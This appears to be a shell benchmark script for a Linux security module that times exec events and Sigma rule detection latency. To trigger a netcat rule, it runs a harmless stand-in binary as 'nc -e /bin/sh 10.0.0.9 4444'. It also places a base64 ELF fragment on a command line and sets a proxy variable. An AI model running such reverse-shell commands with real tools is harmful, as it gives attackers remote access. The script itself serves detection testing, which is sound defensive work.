#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# t-40-execev.sh - what exec events cost, and how fast a Sigma rule's finding arrives.
#   - cached exec with exec events on and off (`whorl config --exec-events`), the module loaded,
#     its cache warm, and a relay with the shipped rules (/bench/rules: rules/ of the tree)
#     consuming them throughout, as in production; EV_ROUNDS rounds in ABBA order, the two exec
#     workloads of t-10 (keys exec.static.ev-on / ev-off, exec.dynamic.*); the relay's count of
#     execs judged (execev.judged) shows the events reached it
#   - exec-to-finding latency of a rule match (wall clock only): a harmless program
#     copied in as /tmp/nc, run as `nc -e /bin/sh 10.0.0.9 4444` LAT_N times, LAT_PAUSE_US apart,
#     each matched by rules/netcat_remote_code_execution.yml (rule.latency.ns per finding)
#   - the event stream the host replays for the rules' throughput (wall clock only): REC_N rounds
#     of a container workload (the image's programs, and now and then netcat -e, a base64 ELF on a
#     command line, a proxy in the environment) recorded by the relay's --exec-log, passed out as
#     `# bench-execlog <json>` lines
. /e2e/lib.sh
. /e2e/bench-lib.sh

RULES=/bench/rules
EV_ROUNDS=${EV_ROUNDS:-$ROUNDS}
REC_N=${REC_N:-0}
ELF_B64=f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA

bench_container
id=$C_ID
mode_set on || finish
warm "$id"

# ev_relay_start [ARGS...]: a relay with the shipped rules (it turns exec events on); its findings
# in $BT/ev-relay.jsonl. ev_relay_stop: stopped, its exit lines in $BT/ev-relay.err.
ev_relay_start() {
	: >"$BT/ev-relay.err"
	"$WHORL" relay --format json --rules "$RULES" "$@" >"$BT/ev-relay.jsonl" 2>"$BT/ev-relay.err" &
	EV_PID=$!
	relay_ready "$EV_PID" "$BT/ev-relay.err" && return 0
	not_ok "relay with the shipped rules starts" "$(tail -n 3 "$BT/ev-relay.err" | tr '\n' ' ')"
	return 1
}
ev_relay_stop() {
	kill -TERM "$EV_PID" 2>/dev/null
	wait "$EV_PID" 2>/dev/null
}

# exec_events on|off: the module's setting, checked in its status
exec_events() {
	"$WHORL" config --exec-events "$1" >/dev/null 2>"$BT/config.err" ||
		{ not_ok "exec events $1" "$(cat "$BT/config.err")"; return 1; }
	status "$BT/ev.json"
	case "$1:$(sget "$BT/ev.json" config.execEvents)" in
	on:true | off:false) return 0 ;;
	esac
	not_ok "exec events $1" "status says execEvents $(sget "$BT/ev.json" config.execEvents)"
	return 1
}

# quiesce: the module's worker idle (settle) and the relay's CPU time unchanged over three polls,
# 0.3 s apart: what an arm's execs left to do is done before the next arm, or the relay's exit
relay_cpu() {
	awk '{ print $14 + $15 }' "/proc/$EV_PID/stat"
}
quiesce() {
	settle
	steady 200 relay_cpu || diag "quiesce: the relay kept working"
}

# --- cached exec, exec events on vs off, the relay with rules running throughout ---------------------
ev_relay_start || finish
info execev.rules "$(grep -m1 'rules:' "$BT/ev-relay.err")"
status "$BT/ev0.json"
# The relay's own CPU time over each arm (schedstat: nanoseconds run, on the instruction clock the
# instructions it ran): on one machine's clock, what it does for an exec is part of the exec's cost.
relay_ns() {
	cut -d' ' -f1 "/proc/$EV_PID/schedstat"
}
# ... and the module's workers' (kernel threads whorl/N), which send each exec event
workers_ns() {
	local p t=0 c
	for p in /proc/[0-9]*; do
		read -r c <"$p/comm" 2>/dev/null || continue
		case $c in whorl/*) t=$((t + $(cut -d' ' -f1 "$p/schedstat"))) ;; esac
	done
	echo "$t"
}
relay_on=0 relay_off=0 workers_on=0 workers_off=0
for r in $(seq 1 "$EV_ROUNDS"); do
	for m in $(round_order "$r"); do
		exec_events "$m" || finish
		r0=$(relay_ns) w0=$(workers_ns)
		cached "$id" "ev-$m" exec
		quiesce
		r1=$(relay_ns) w1=$(workers_ns)
		eval "relay_$m=\$((relay_$m + r1 - r0))"
		eval "workers_$m=\$((workers_$m + w1 - w0))"
	done
done
status "$BT/ev1.json"
ev_relay_stop
# what the module sent and what it dropped meanwhile (exec events and findings alike)
for k in execEvents workDropped workOverShare findingsDropped; do
	echo "# bench execev.$k $(($(sget "$BT/ev1.json" "counters.$k" || echo 0) - $(sget "$BT/ev0.json" "counters.$k" || echo 0)))"
done
judged=$(grep -o '[0-9]* exec(s) judged' "$BT/ev-relay.err" | cut -d' ' -f1)
lost=$(grep -o '[0-9]* lost by the kernel' "$BT/ev-relay.err" | cut -d' ' -f1)
# each on round's execs reached the relay: the timed and warm-up iterations of both workloads
want=$((EV_ROUNDS * (N_EXEC_STATIC + N_EXEC_DYNAMIC + 2 * WARMUP)))
if [ "${judged:-0}" -ge "$want" ]; then
	ok "exec events on: the relay judged $judged execs (at least $want)"
else
	not_ok "exec events reach the relay" "it judged '${judged:-}' execs, fewer than $want: $(tail -n 2 "$BT/ev-relay.err" | tr '\n' ' ')"
fi
sample execev.judged "${judged:-}" "the relay's exit line"
# per exec of the on arms (their timed and warm-up iterations); the off arms' figure is the floor
per_arm=$((N_EXEC_STATIC + N_EXEC_DYNAMIC + 2 * WARMUP))
sample execev.relay.ns_per_exec "$((relay_on / (EV_ROUNDS * per_arm)))" "the relay's schedstat"
info execev.relay.off_ns_per_exec "$((relay_off / (EV_ROUNDS * per_arm)))"
info execev.workers.ns_per_exec "on $((workers_on / (EV_ROUNDS * per_arm))), off $((workers_off / (EV_ROUNDS * per_arm)))"
echo "# bench execev.lost ${lost:-0}"
info execev.relay "$(grep 'exec(s) judged' "$BT/ev-relay.err")"

# the rest on the wall clock only
if [ "$CLOCK" = icount ] || [ "${LAT_N:-0}" = 0 ]; then
	finish
fi

# --- exec-to-finding latency of a rule match -----------------------------------------------------------
ctr "$id" /bin/sh -c "cat $CB/bench-nop >/tmp/nc && chmod 0755 /tmp/nc"
NETCAT="Netcat Remote Code Execution"
lat_start --rules "$RULES" || finish
# two first, left out: the module hashes the new program at its first sight
ctr "$id" "$CB/bench-loop" exec 2 /tmp/nc -e /bin/sh 10.0.0.9 4444 >/dev/null
settle
ctr "$id" "$CB/bench-loop" -p "$LAT_PAUSE_US" exec "$LAT_N" /tmp/nc -e /bin/sh 10.0.0.9 4444 >/dev/null
lat_collect "$NETCAT" $((LAT_N + 2)) "$FINDING_TIMEOUT" "every nc -e matched by the rule" rule.latency.ns 2
info rule.finding "$(grep -m1 "$NETCAT" "$BT/raw.jsonl" | cut -c1-300)"

# --- the event stream for the host's throughput run ---------------------------------------------------
# what a container does, REC_N times: its image's programs (coreutils, dash, xz), and in each
# round one of three attacks; every exec recorded by the relay, as it judged it
rm -f "$BT/stream.jsonl"
ev_relay_start --exec-log "$BT/stream.jsonl" || finish
ctr "$id" /bin/sh -c "i=0; while [ \$i -lt $REC_N ]; do
	ls -la /etc >/dev/null; cat /etc/passwd >/dev/null; head -n 3 /etc/passwd >/dev/null
	id >/dev/null; uname -a >/dev/null; env >/dev/null; stat /tmp >/dev/null
	sha256sum /usr/bin/id >/dev/null; mkdir -p /tmp/w/\$i; cp /etc/passwd /tmp/w/\$i/p
	xz -k -c /tmp/w/\$i/p >/tmp/w/\$i/p.xz; unxz -c /tmp/w/\$i/p.xz >/dev/null
	/bin/sh -c 'ls /tmp | head -n 2' >/dev/null; sleep 0; rm -rf /tmp/w/\$i
	case \$((i % 3)) in
	0) /tmp/nc -e /bin/sh 10.0.0.9 4444 ;;
	1) /bin/sh -c 'echo $ELF_B64 >/dev/null' ;;
	2) HTTPS_PROXY=http://10.0.0.9:3128 /usr/bin/id >/dev/null ;;
	esac
	i=\$((i + 1))
done" >/dev/null 2>"$BT/rec.err"
# the relay has judged them all once its log stops growing
last=-1
for i in $(seq 1 120); do
	n=$(wc -l <"$BT/stream.jsonl" 2>/dev/null || echo 0)
	[ "$n" = "$last" ] && break
	last=$n
	sleep 1
done
ev_relay_stop
n=$(wc -l <"$BT/stream.jsonl" 2>/dev/null || echo 0)
if [ "$n" -ge $((REC_N * 15)) ]; then
	ok "event stream recorded ($n execs)"
else
	not_ok "event stream recorded" "$n execs in the exec log for $REC_N rounds: $(tail -n 2 "$BT/rec.err" | tr '\n' ' ')"
fi
sample stream.events "$n" "the relay's exec log"
sed 's/^/# bench-execlog /' "$BT/stream.jsonl"

finish
